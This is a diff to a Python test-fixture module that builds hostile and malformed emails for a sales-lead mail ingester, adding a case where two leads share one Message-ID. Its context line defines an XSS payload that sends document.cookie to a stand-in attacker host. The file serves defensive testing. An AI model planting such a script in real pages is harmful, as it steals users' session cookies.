@@ -19,11 +19,11 @@ SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
 
 
 def _msg(name: str, headers: str, body: bytes | str, sender: str = "Mallory Tester <mallory@hostile.example>",
-         subject: str | None = None) -> tuple[str, bytes]:
+         subject: str | None = None, date: str = "Tue, 01 Dec 2026 10:00:00 +0000",
+         message_id: str = "") -> tuple[str, bytes]:
     subject = f"[{name}] hostile case" if subject is None else subject
     head = (f"From: {sender}\r\nTo: sales@acme-pumps.example\r\nSubject: {subject}\r\n"
-            f"Date: Tue, 01 Dec 2026 10:00:00 +0000\r\nMessage-ID: <{name}@hostile.example>\r\n"
-            f"{headers}")
+            f"Date: {date}\r\nMessage-ID: {message_id or f'<{name}@hostile.example>'}\r\n{headers}")
     data = body.encode("utf-8") if isinstance(body, str) else body
     return name, head.encode("utf-8", "surrogateescape") + b"\r\n" + data
 
@@ -100,6 +100,21 @@ def broken_mail() -> list[tuple[str, bytes]]:
                           subject=f"Quote request {mention} urgent",
                           sender=f"\"{mention}\" <mention{i}@hostile.example>"))
     return cases
+
+
+DUPLICATE_ID = "<reused-id@mailer.example>"
+
+
+def duplicate_message_id() -> list[tuple[str, bytes]]:
+    """Two different leads from two senders that carry the same Message-ID (broken mailers, resent forms)."""
+    return [
+        _msg("duplicate-id-first", "", "Hello, please quote 4 borehole pumps for our farm. Regards, Ann",
+             sender="Ann First <ann@first-farm.example>", subject="Quote for 4 borehole pumps",
+             message_id=DUPLICATE_ID),
+        _msg("duplicate-id-second", "", "Good day, we need a price for 12 stainless valves. Bob",
+             sender="Bob Second <bob@second-dairy.example>", subject="Price request: 12 valves",
+             message_id=DUPLICATE_ID),
+    ]
 
 
 def big_attachment(megabytes: int = 25) -> bytes:
